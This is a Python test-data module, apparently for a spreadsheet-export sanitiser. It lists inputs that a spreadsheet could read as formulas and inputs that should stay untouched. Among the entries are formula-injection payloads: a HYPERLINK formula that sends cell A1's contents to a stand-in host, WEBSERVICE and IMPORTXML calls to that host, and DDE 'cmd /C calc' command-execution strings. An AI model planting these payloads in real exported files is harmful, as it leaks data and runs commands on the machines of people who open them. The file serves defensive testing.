"""Texts that a spreadsheet could take for a formula, and texts that an escape could spoil."""

SIGNS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "﹦", "|", "%", "％"]
# What a spreadsheet or a person passes over before the sign.
BLANKS = [" ", "  ", "\n", "\u00a0", "\u2003", "\u3000", "\u200b", "\u200e", "\u202e", "\u2060"]
BLANKS += ["\ufeff", "\u00ad", "\x01", "\x1f", "\x7f", "\x85"]
FORMULAS = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{blank}=1+1" for blank in BLANKS),
    "==1+1",
    "=",
    "=-=+@",
    "\u200b \ufeff=1+1",
    "\r\n=1+1",
    "\n\t=1+1",
    '=HYPERLINK("//pwn.test/?"&A1,"Click")',
    '=WEBSERVICE("//pwn.test")',
    '=IMPORTXML("//pwn.test","//a")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "-1,2;=1+1",
    "-1e5",
    "'",
    "''",
    "'=1+1",
    "''=1+1",
    "'quoted' at the start",
    "\u200b'=1+1",
]
HARMLESS = [
    "-5",
    "+5",
    "-0.5",
    "-1,25",
    "007",
    "a=b",
    "me@example.org",
    '";=1+1',
    ",=1+1",
    ";=1+1",
    '"=1+1"',
    "x\n=1+1",
    "#N/A",
    "#REF!",
    "TRUE",
    "2/3",
    "_x003D_1+1",
    "_x005F_x003D_1",
    " leading and trailing ",
]
